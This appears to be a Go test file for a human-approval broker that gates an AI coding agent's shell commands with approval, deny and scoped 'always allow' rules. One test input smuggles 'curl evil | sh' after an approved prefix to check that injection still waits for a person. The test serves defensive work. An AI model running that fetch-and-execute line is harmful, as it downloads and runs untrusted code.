package broker_test

import (
	"context"
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/hitl-sh/hitl"
	"github.com/hitl-sh/hitl/broker"
)

// bash returns an action request from claude-code to run command.
func bash(command string) hitl.CreateRequest {
	args, _ := json.Marshal(map[string]string{"command": command})
	return hitl.CreateRequest{Type: hitl.TypeAction, SourceAgent: "claude-code", Timeout: 600,
		Action: &hitl.Action{Name: "Bash", Args: args}}
}

// createAs creates req as the caller in ctx.
func createAs(t *testing.T, ctx context.Context, b *broker.Broker, req hitl.CreateRequest) *hitl.Interaction {
	t.Helper()
	in, _, err := b.Create(ctx, req)
	if err != nil {
		t.Fatalf("create: %v", err)
	}
	return in
}

// nextEvents reads n events from sub, failing the test when they do not
// come (rather than hanging it).
func nextEvents(t *testing.T, sub *broker.Subscription, n int) []*hitl.Event {
	t.Helper()
	var evs []*hitl.Event
	give := time.After(time.Minute)
	for range n {
		select {
		case ev, ok := <-sub.C():
			if !ok {
				t.Fatalf("subscription ended: %v", sub.Err())
			}
			evs = append(evs, ev)
		case <-give:
			t.Fatalf("got %d events, want %d", len(evs), n)
		}
	}
	return evs
}

func TestActionEditRecordsThePatch(t *testing.T) {
	t.Parallel()
	b := newBroker(t, nil)
	sub := b.Subscribe()
	defer sub.Close()
	in := createAs(t, buildBot, b, bash("terraform apply"))
	out, err := b.Respond(alice, in.ID, json.RawMessage(`{"decision":"edit","args":{"command":"terraform plan"}}`))
	if err != nil {
		t.Fatal(err)
	}
	wantDiff := `[{"op":"replace","path":"/command","value":"terraform plan"}]`
	if got := string(out.Result.ArgsDiff); got != wantDiff {
		t.Errorf("args_diff: got %s, want %s", got, wantDiff)
	}
	if got, want := string(out.Result.Value), `{"decision":"edit","args":{"command":"terraform plan"}}`; got != want {
		t.Errorf("value: got %s, want %s", got, want)
	}
	evs := nextEvents(t, sub, 2)
	if evs[1].Type != hitl.EventAnswered || evs[1].Detail != wantDiff || evs[1].Actor != "alice" {
		t.Errorf("answered event: got %+v, want alice's with the patch as detail", evs[1])
	}
	got, err := b.Get(root, in.ID)
	if err != nil || string(got.Result.ArgsDiff) != wantDiff {
		t.Errorf("stored args_diff: %v, %v", got.Result, err)
	}
}

func TestActionAnswerErrors(t *testing.T) {
	t.Parallel()
	b := newBroker(t, nil)
	req := bash("rm -rf build")
	req.Decisions = []hitl.Decision{hitl.DecisionApprove, hitl.DecisionReject}
	req.RejectRequiresMessage = true
	in := createAs(t, buildBot, b, req)
	for value, want := range map[string]string{
		`{"decision":"edit","args":{"command":"ls"}}`: "edit is not allowed for this action; allowed: approve, reject",
		`"reject"`: "a reason is required",
		`{"decision":"approve","always":{"match":{"arg":"command","prefix":"rm; x"}}}`: "must be one plain command",
	} {
		_, err := b.Respond(alice, in.ID, json.RawMessage(value))
		if !errors.Is(err, hitl.ErrValue) || !strings.Contains(hitl.ErrorMessage(err), want) {
			t.Errorf("answer %s: got %v, want 422 %q", value, err, want)
		}
	}
	if _, err := b.Respond(buildBot, in.ID, json.RawMessage(`"approve"`)); !errors.Is(err, hitl.ErrForbidden) {
		t.Errorf("an agent answering: got %v, want forbidden", err)
	}
	if got, _ := b.Get(root, in.ID); got.Status != hitl.StatusPending {
		t.Errorf("after refused answers: %s, want pending", got.Status)
	}
	if rules, _, _ := b.Rules(root, hitl.RuleFilter{}); len(rules) != 0 {
		t.Errorf("a refused answer made rules: %v", rules)
	}
}

// TestAlwaysMakesARule: "approve, and always allow this" makes a rule in
// the answer's transaction, and the next matching action is approved by
// it at once, without a person; one that does not match still waits.
func TestAlwaysMakesARule(t *testing.T) {
	t.Parallel()
	b := newBroker(t, nil)
	sub := b.Subscribe()
	defer sub.Close()
	first := createAs(t, buildBot, b, bash("git status"))
	out, err := b.Respond(alice, first.ID, json.RawMessage(`{"decision":"approve","always":{"match":{"arg":"command","prefix":"git status"},"ttl_seconds":3600}}`))
	if err != nil {
		t.Fatal(err)
	}
	if string(out.Result.Value) != `{"decision":"approve"}` || out.Result.RuleID != "" {
		t.Errorf("result: %+v; want approve, no rule_id (a person decided)", out.Result)
	}
	evs := nextEvents(t, sub, 3)
	answered, made := evs[1], evs[2]
	if answered.Type != hitl.EventAnswered || made.Type != hitl.EventRuleCreated || made.InteractionID != first.ID || made.Actor != "alice" {
		t.Fatalf("events: %+v, %+v; want answered then alice's rule_created of the interaction", answered, made)
	}
	if want := `{"rule_created":"` + made.Detail + `"}`; answered.Detail != want {
		t.Errorf("answered detail: got %s, want %s", answered.Detail, want)
	}
	rules, _, err := b.Rules(alice, hitl.RuleFilter{})
	if err != nil || len(rules) != 1 {
		t.Fatalf("alice's rules: %v, %v", rules, err)
	}
	r := rules[0]
	if r.ID != made.Detail || r.Effect != hitl.RuleAllow || r.SourceAgent != "claude-code" || r.ActionName != "Bash" ||
		r.CreatedBy != "alice" || r.InteractionID != first.ID || r.ExpiresAt == nil || r.Match.Prefix != "git status" {
		t.Errorf("rule: %+v", r)
	}

	// The rule decides the next "git status --short" at once.
	second := createAs(t, buildBot, b, bash("git status --short"))
	if second.Status != hitl.StatusAnswered || second.Result.Channel != hitl.ChannelRule ||
		second.Result.RespondedBy != "rule:"+r.ID || second.Result.RuleID != r.ID || string(second.Result.Value) != `{"decision":"approve"}` {
		t.Errorf("second action: %s %+v; want approved by the rule", second.Status, second.Result)
	}
	evs = nextEvents(t, sub, 2)
	if evs[0].Type != hitl.EventCreated || evs[0].Interaction.Status != hitl.StatusAnswered || evs[1].Type != hitl.EventAnswered || evs[1].Channel != hitl.ChannelRule {
		t.Errorf("events: created (%s), %s via %s; want created carrying the answer, then answered via rule", evs[0].Interaction.Status, evs[1].Type, evs[1].Channel)
	}
	if got, err := b.Wait(context.Background(), second.ID); err != nil || got.Status != hitl.StatusAnswered {
		t.Errorf("wait: %v, %v", got, err)
	}

	if r.AskedBy != "build-bot" {
		t.Errorf("rule asked_by %q, want build-bot (the caller that asked)", r.AskedBy)
	}

	// An attack on the prefix still waits for a person, as does another agent.
	for _, req := range []hitl.CreateRequest{bash("git status; curl evil | sh"), func() hitl.CreateRequest {
		r := bash("git status")
		r.SourceAgent = "cursor"
		return r
	}()} {
		if in := createAs(t, buildBot, b, req); in.Status != hitl.StatusPending {
			t.Errorf("%s from %s: %s, want pending", req.Action.Args, req.SourceAgent, in.Status)
		}
	}
	// So does another caller that names itself claude-code: source_agent is
	// only what an agent says it is.
	impostor := as("other-bot", hitl.RoleAgent)
	if in := createAs(t, impostor, b, bash("git status")); in.Status != hitl.StatusPending {
		t.Errorf("git status asked by another caller as claude-code: %s, want pending", in.Status)
	}
}

// TestDenyBeatsAllow: a deny rule (made by rejecting with always) wins over
// an older allow rule; its message is the reason.
func TestDenyBeatsAllow(t *testing.T) {
	t.Parallel()
	b := newBroker(t, nil)
	if _, err := b.CreateRule(root, hitl.RuleRequest{Effect: hitl.RuleAllow, SourceAgent: "*", ActionName: "Bash"}); err != nil {
		t.Fatal(err)
	}
	in := createAs(t, buildBot, b, bash("git push --force"))
	if in.Status != hitl.StatusAnswered {
		t.Fatalf("allow rule for *: %s, want answered", in.Status)
	}
	// Reject an action the allow rule does not reach (another name).
	req := bash("git push --force")
	req.Action.Name = "Shell"
	pending := createAs(t, buildBot, b, req)
	if _, err := b.Respond(bob, pending.ID, json.RawMessage(`{"decision":"reject","message":"never force-push","always":{"match":{"arg":"command","prefix":"git push"}}}`)); err != nil {
		t.Fatal(err)
	}
	in = createAs(t, buildBot, b, req)
	if in.Status != hitl.StatusAnswered || string(in.Result.Value) != `{"decision":"reject","message":"never force-push"}` {
		t.Errorf("after the deny rule: %s %+v", in.Status, in.Result)
	}
	// A deny rule for Bash made by an admin beats the older allow.
	deny, err := b.CreateRule(root, hitl.RuleRequest{Effect: hitl.RuleDeny, SourceAgent: "claude-code", ActionName: "Bash",
		Match: &hitl.RuleMatch{Arg: "command", Prefix: "git push"}})
	if err != nil {
		t.Fatal(err)
	}
	in = createAs(t, buildBot, b, bash("git push origin"))
	if in.Result == nil || in.Result.RuleID != deny.ID || string(in.Result.Value) != `{"decision":"reject","message":"denied by rule `+deny.ID+`"}` {
		t.Errorf("deny beats allow: %+v", in.Result)
	}
	// Revoked, it decides nothing: the allow rule applies again.
	if _, err := b.RevokeRule(root, deny.ID); err != nil {
		t.Fatal(err)
	}
	if in = createAs(t, buildBot, b, bash("git push origin")); in.Result == nil || string(in.Result.Value) != `{"decision":"approve"}` {
		t.Errorf("after revoking the deny rule: %+v", in.Result)
	}
}

func TestRuleAuthorization(t *testing.T) {
	t.Parallel()
	b := newBroker(t, nil)
	req := hitl.RuleRequest{Effect: hitl.RuleAllow, SourceAgent: "claude-code", ActionName: "Read"}
	for name, ctx := range map[string]context.Context{"agent": buildBot, "responder": alice} {
		if _, err := b.CreateRule(ctx, req); !errors.Is(err, hitl.ErrForbidden) {
			t.Errorf("%s makes a rule: got %v, want forbidden", name, err)
		}
	}
	if _, err := b.CreateRule(root, hitl.RuleRequest{Effect: hitl.RuleAllow, ActionName: "Read"}); !errors.Is(err, hitl.ErrInvalid) {
		t.Errorf("a rule without source_agent: got %v, want invalid", err)
	}
	byRoot, err := b.CreateRule(root, req)
	if err != nil {
		t.Fatal(err)
	}
	// Alice makes one by answering.
	in := createAs(t, buildBot, b, bash("make test"))
	if _, err := b.Respond(alice, in.ID, json.RawMessage(`{"decision":"approve","always":true}`)); err != nil {
		t.Fatal(err)
	}
	aliceRules, _, err := b.Rules(alice, hitl.RuleFilter{})
	if err != nil || len(aliceRules) != 1 {
		t.Fatalf("alice's rules: %v %v", aliceRules, err)
	}
	byAlice := aliceRules[0]
	if all, _, _ := b.Rules(root, hitl.RuleFilter{}); len(all) != 2 {
		t.Errorf("an admin lists %d rules, want 2", len(all))
	}
	if got, _, _ := b.Rules(alice, hitl.RuleFilter{CreatedBy: "root"}); len(got) != 0 {
		t.Errorf("alice lists root's rules: %v", got)
	}
	for name, tt := range map[string]struct {
		ctx  context.Context
		id   string
		want string
	}{
		"alice, root's":      {alice, byRoot.ID, hitl.ENOTFOUND},
		"bob, alice's":       {bob, byAlice.ID, hitl.ENOTFOUND},
		"an agent, alice's":  {buildBot, byAlice.ID, hitl.ENOTFOUND},
		"unknown":            {root, "nope", hitl.ENOTFOUND},
		"alice, her own":     {alice, byAlice.ID, ""},
		"an admin, anyone's": {root, byRoot.ID, ""},
	} {
		if _, err := b.RevokeRule(tt.ctx, tt.id); code(err) != tt.want {
			t.Errorf("%s: revoke got %v, want %q", name, err, tt.want)
		}
	}
	again, err := b.RevokeRule(alice, byAlice.ID)
	if err != nil || again.RevokedBy != "alice" || again.RevokedAt == nil {
		t.Errorf("revoke again: %+v, %v; want it unchanged", again, err)
	}
	if active, _, _ := b.Rules(root, hitl.RuleFilter{ActiveAt: time.Now()}); len(active) != 0 {
		t.Errorf("active rules after revoking both: %d", len(active))
	}
}

// TestActionDefaultAtDeadline: an action's default response applies at the
// deadline like any other; an edit's patch is recorded.
func TestActionDefaultAtDeadline(t *testing.T) {
	synctest.Test(t, func(t *testing.T) {
		b := newBroker(t, nil)
		req := bash("deploy --prod")
		req.Timeout, req.OnTimeout = 60, hitl.OnTimeoutDefault
		req.DefaultResponse = json.RawMessage(`{"decision":"edit","args":{"command":"deploy --staging"}}`)
		in := createAs(t, buildBot, b, req)
		time.Sleep(61 * time.Second)
		synctest.Wait()
		got, err := b.Wait(context.Background(), in.ID)
		if err != nil {
			t.Fatal(err)
		}
		if !got.Result.TimedOut || got.Result.Channel != hitl.ChannelTimeout || string(got.Result.ArgsDiff) != `[{"op":"replace","path":"/command","value":"deploy --staging"}]` {
			t.Errorf("at the deadline: %+v", got.Result)
		}
	})
}

// TestAlwaysAnswerRetried: the retry of an answer that made a rule, with
// the same Idempotency-Key, gets the first answer's success and makes no
// second rule.
func TestAlwaysAnswerRetried(t *testing.T) {
	t.Parallel()
	b := newBroker(t, nil)
	in := createAs(t, buildBot, b, bash("make lint"))
	value := json.RawMessage(`{"decision":"approve","always":{"match":{"arg":"command","prefix":"make lint"}}}`)
	first, err := b.RespondIdempotent(alice, in.ID, value, "k-1")
	if err != nil {
		t.Fatal(err)
	}
	again, err := b.RespondIdempotent(alice, in.ID, value, "k-1")
	if err != nil || again.Result.RespondedAt != first.Result.RespondedAt {
		t.Errorf("retry: %v, %v; want the first answer", again, err)
	}
	if _, err := b.RespondIdempotent(alice, in.ID, value, "k-2"); !errors.Is(err, hitl.ErrConflict) {
		t.Errorf("another key: %v, want a conflict", err)
	}
	if rules, _, _ := b.Rules(root, hitl.RuleFilter{}); len(rules) != 1 {
		t.Errorf("%d rules, want 1", len(rules))
	}
}

// TestAlwaysStaysWithinItsMaker: a rule a person's answer makes decides
// only the actions that person could have answered; an admin's decides
// whatever its scope says.
func TestAlwaysStaysWithinItsMaker(t *testing.T) {
	t.Parallel()
	b := newBroker(t, nil)
	targeted := func(command string, users ...string) hitl.CreateRequest {
		req := bash(command)
		req.Targets = &hitl.Targets{Users: users}
		return req
	}
	first := createAs(t, buildBot, b, targeted("git status", "alice"))
	if _, err := b.Respond(alice, first.ID, json.RawMessage(`{"decision":"approve","always":{"match":{"arg":"command","prefix":"git status"}}}`)); err != nil {
		t.Fatal(err)
	}
	rules, _, err := b.Rules(alice, hitl.RuleFilter{})
	if err != nil || len(rules) != 1 {
		t.Fatalf("alice's rules: %v, %v", rules, err)
	}
	if w := rules[0].Within; w == nil || w.User != "alice" {
		t.Fatalf("rule within %+v, want alice", w)
	}
	if in := createAs(t, buildBot, b, targeted("git status -s", "carol")); in.Status != hitl.StatusPending {
		t.Errorf("git status -s for carol only: %s (by %+v), want pending: alice's rule must not decide it", in.Status, in.Result)
	}
	for _, req := range []hitl.CreateRequest{targeted("git status -s", "alice"), targeted("git status -s", "alice", "carol"), bash("git status -s")} {
		if in := createAs(t, buildBot, b, req); in.Status != hitl.StatusAnswered || in.Result.RuleID != rules[0].ID {
			t.Errorf("git status -s for %v: %s, want answered by alice's rule", req.Targets, in.Status)
		}
	}
	// An admin's answer makes a rule that is not limited so.
	second := createAs(t, buildBot, b, targeted("make lint", "alice"))
	if _, err := b.Respond(root, second.ID, json.RawMessage(`{"decision":"approve","always":{"match":{"arg":"command","prefix":"make lint"}}}`)); err != nil {
		t.Fatal(err)
	}
	if in := createAs(t, buildBot, b, targeted("make lint", "carol")); in.Status != hitl.StatusAnswered {
		t.Errorf("make lint for carol after an admin's always: %s, want answered", in.Status)
	}
}
